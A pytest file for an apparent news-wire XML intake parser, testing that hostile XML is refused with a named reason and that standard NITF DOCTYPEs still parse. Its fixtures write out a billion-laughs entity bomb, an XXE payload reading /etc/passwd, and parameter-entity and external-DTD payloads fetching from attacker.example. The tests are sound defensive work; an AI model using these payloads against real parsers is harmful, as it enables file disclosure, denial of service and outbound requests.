"""Hostile XML is refused with a reason of its own; well-known DOCTYPEs are not."""

from __future__ import annotations

import pytest

from wirefeed.intake.parsers import ParseError, RawItem, parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<nitf><head><title>&lol3;</title></head></nitf>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><head><title>&secret;</title></head></nitf>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<nitf><head><title>x</title></head></nitf>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE nitf SYSTEM "http://attacker.example/evil.dtd">
<nitf><head><title>x</title></head></nitf>"""


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (BILLION_LAUGHS, "xml_entities_forbidden"),
        (XXE, "xml_entities_forbidden"),
        (PARAMETER_ENTITY, "xml_entities_forbidden"),
        (EXTERNAL_DTD, "xml_external_dtd"),
    ],
)
def test_hostile_xml_is_refused_with_its_reason(payload: bytes, reason: str) -> None:
    with pytest.raises(ParseError) as caught:
        parse(RawItem(payload, "application/xml"))
    assert caught.value.reason == reason


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">',
        '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.5//EN" '
        '"http://www.nitf.org/IPTC/NITF/3.5/specification/dtd/nitf-3-5.dtd">',
    ],
)
def test_a_standard_nitf_doctype_is_accepted(doctype: str) -> None:
    payload = f"""<?xml version="1.0"?>{doctype}
<nitf><head><title>Storm nears coast</title></head><body><body.content><p>Rain.</p>
</body.content></body></nitf>""".encode()
    story = parse(RawItem(payload))
    assert story.headline == "Storm nears coast"
    assert story.body_html == "<p>Rain.</p>"
